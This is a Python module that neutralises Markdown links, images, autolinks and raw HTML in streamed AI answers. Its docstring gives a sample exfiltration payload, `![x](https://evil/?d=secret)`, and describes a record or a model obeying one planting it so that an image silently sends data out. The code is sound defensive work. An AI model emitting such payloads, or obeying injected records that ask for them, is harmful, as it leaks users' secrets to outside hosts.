"""An answer's plain text made safe to render as Markdown, also while it streams.

The `html` of an answer is sanitised (chat.rendering), but REST, MCP and streaming clients also get the plain
`answer` text, and many of them render it as Markdown. A record (or a model obeying one) can put
`![x](https://evil/?d=secret)` into that text: an image fires without a click. So the text itself is
neutralised, with the same outcome as the HTML:

- an inline link or image loses its destination (`![x](url)` -> `![x]`, `[x](url)` -> `[x]`), except a link
  (never an image) to one of the answer's own records; without a destination, and with reference
  definitions broken below, no link or image can form;
- a reference definition at a line's start (`[x]: url`) is broken (`[x] :`), so `[x]` and `![x][ref]` stay text;
- an autolink to an outside address loses its angle brackets (`<https://evil>` -> `https://evil`);
- raw HTML tags and comments are removed (`<img ...>`, `<script>`, `<!-- -->`), repeated until nothing
  changes, so removing one tag cannot join two halves of another.

The rules act on *closers* (`](`) and whole tags, so bracket nesting inside link text does not matter.
`MarkdownHoldBack` keeps back a tail that could still become such a construct (an unclosed `](`, `<tag`,
a line-start `[label`, a trailing `]` or backslash), so no piece sent to the client ends inside one and
the pieces concatenate to safe text; a construct still open after `HOLD_MAX` characters is escaped instead.
"""

from __future__ import annotations

import re
from collections.abc import Collection

HOLD_MAX = 4096  # longer than any record URL (2,000) plus a title

# Any "<" + letter up to the next ">" counts as a tag, as browsers read it ("<img\\x47src=...>" and
# "<script src=x?< b >" are one tag each), but no tag spans a blank line, as in CommonMark. Autolinks
# ("<https://...>") are matched before tags.
_ATTRS = r"(?:(?!\n[ \t]*\n)[^>])*"
_TAG = re.compile(rf"<(?:/?[A-Za-z]{_ATTRS}>|!--.*?-->|![A-Za-z]{_ATTRS}>|\?{_ATTRS}\?>)", re.DOTALL)
_TAG_OPEN = re.compile(rf"<(?:/?[A-Za-z]{_ATTRS}|/|!-?|![A-Za-z]{_ATTRS}|\?{_ATTRS})?\Z")
_AUTOLINK = re.compile(r"<([A-Za-z][A-Za-z0-9+.-]{1,31}:[^\s<>]*)>")
_AUTOLINK_OPEN = re.compile(r"<[A-Za-z][A-Za-z0-9+.-]{0,31}(?::[^\s<>]*)?\Z")
_COMMENT_OPEN = re.compile(r"<!--(?:(?!-->).)*\Z", re.DOTALL)
_REF_DEF = re.compile(r"\[(?:[^\[\]\\]|\\.){1,999}\]:")
_REF_OPEN = re.compile(r"\[(?:[^\[\]\\]|\\.){0,999}\\?\Z", re.DOTALL)
_KEPT_LINK = re.compile(r"<?(?P<url>[^\s<>]+)>?(?:\s+(?:\"[^\"]*\"|'[^']*'|\([^()]*\)))?")
_BLANK_LINE = re.compile(r"\n[ \t]*\n")


def _paren_end(text: str, start: int) -> int | None:
    """`text[start]` is "(": the index after its matching ")", -1 when a blank line comes first (no link
    spans one), None when the text ends before either (still open)."""
    depth, k, n = 0, start, len(text)
    while k < n:
        char = text[k]
        if char == "\\":
            k += 2
            continue
        if char == "\n" and _BLANK_LINE.match(text, k):
            return -1
        if char == "(":
            depth += 1
        elif char == ")":
            depth -= 1
            if depth == 0:
                return k + 1
        k += 1
    return None


def _opens_image(text: str, close: int) -> bool:
    """Whether the "]" at `close` ends the text of an image: its matching "[" follows a "!". Unknown (the
    opener is out of reach) counts as an image, the stricter reading."""
    depth = 0
    for j in range(close - 1, -1, -1):
        if j > 0 and text[j - 1] == "\\":
            continue
        if text[j] == "]":
            depth += 1
        elif text[j] == "[":
            if depth == 0:
                return j > 0 and text[j - 1] == "!"
            depth -= 1
    return True


def _line_start(text: str, i: int) -> bool:
    """Whether only 0-3 spaces stand between the line's start and `i` (where a reference definition may start)."""
    line_start = text.rfind("\n", 0, i) + 1
    return i - line_start <= 3 and not text[line_start:i].strip(" ")


def _kept(text: str, close: int, end: int, allowed: frozenset[str]) -> bool:
    link = _KEPT_LINK.fullmatch(text[close + 2:end - 1].strip())
    return bool(link) and link.group("url") in allowed and not _opens_image(text, close)


def _clean_pass(text: str, start: int, allowed: frozenset[str]) -> str:
    """One pass over `text[start:]` (`text[:start]` is context already sent); returns the cleaned part."""
    out: list[str] = []
    i, n = start, len(text)
    while i < n:
        char = text[i]
        if char == "\\":
            out.append(text[i:i + 2])
            i += 2
        elif char == "]" and text.startswith("(", i + 1):
            end = _paren_end(text, i + 1)
            if end is None or end < 0:
                out.append("] ")  # an unclosed "](" cannot link; the space makes sure of it
                i += 1
            else:
                out.append(text[i:end] if _kept(text, i, end, allowed) else "]")
                i = end
        elif char == "<" and (autolink := _AUTOLINK.match(text, i)):
            url = autolink.group(1)
            out.append(autolink.group(0) if url in allowed else url)  # an outside address stays as text
            i = autolink.end()
        elif char == "<" and (tag := _TAG.match(text, i)):
            i = tag.end()
        elif char == "[" and _line_start(text, i) and (definition := _REF_DEF.match(text, i)):
            out.append(definition.group(0)[:-1] + " :")
            i = definition.end()
        else:
            out.append(char)
            i += 1
    return "".join(out)


def _clean(text: str, start: int, allowed: frozenset[str]) -> str:
    part = text[start:]
    while True:
        cleaned = _clean_pass(text[:start] + part, start, allowed)
        if cleaned == part:
            return part
        part = cleaned


def markdown_guard(text: str, allowed_links: Collection[str] = ()) -> str:
    """The whole text at once: what `MarkdownHoldBack` sends in pieces."""
    return _clean(text, 0, frozenset(allowed_links))


def _open_at(text: str, i: int) -> bool:
    """Whether `text[i:]` could still grow into a construct `_clean_pass` acts on."""
    char = text[i]
    if char == "]":
        if i == len(text) - 1:
            return True
        return text[i + 1] == "(" and _paren_end(text, i + 1) is None
    if char == "<":
        return any(pattern.match(text, i) for pattern in (_TAG_OPEN, _AUTOLINK_OPEN, _COMMENT_OPEN))
    if char == "[" and _line_start(text, i):
        return bool(_REF_OPEN.match(text, i))
    return False


def _hold_from(text: str, start: int) -> int:
    """The earliest index at or after `start` from which the text must be held back (len(text) if none)."""
    i, n = start, len(text)
    while i < n:
        if text[i] == "\\":
            if i == n - 1:
                return i  # it may escape what comes next
            i += 2  # an escaped character opens nothing
            continue
        if text[i] in "]<[" and _open_at(text, i):
            return i
        i += 1
    return n


_ESCAPE = {"]": 1, "<": 0, "[": 0}  # where a backslash goes to make the opener inert


class MarkdownHoldBack:
    """Feed safe-label text in, get Markdown-safe text out; call `flush()` at the end."""

    def __init__(self, allowed_links: Collection[str] = ()) -> None:
        self.allowed = frozenset(allowed_links)
        self._sent = ""  # the last HOLD_MAX characters sent: context for line starts and image openers
        self._pending = ""

    def _emit(self, text: str) -> str:
        self._sent = (self._sent + text)[-HOLD_MAX:]
        return text

    def feed(self, delta: str) -> str:
        self._pending += delta
        while True:
            text = self._sent + self._pending
            start = len(self._sent)
            cut = _hold_from(text, start)
            if len(text) - cut <= HOLD_MAX:
                break
            # Still open after HOLD_MAX characters: escape the opener, so it can open nothing, and read on.
            at = cut + _ESCAPE[text[cut]]
            self._pending = text[start:at] + "\\" + text[at:]
        ready = _clean(text[:cut], start, self.allowed)
        # Cleaning may leave an opener at the end ("<<b></b>img" -> "<img"): it waits with the rest.
        held = _hold_from(text[:start] + ready, start) - start
        self._pending = ready[held:] + text[cut:]
        return self._emit(ready[:held])

    def flush(self) -> str:
        text = self._sent + self._pending
        self._pending = ""
        return self._emit(_clean(text, len(self._sent), self.allowed))
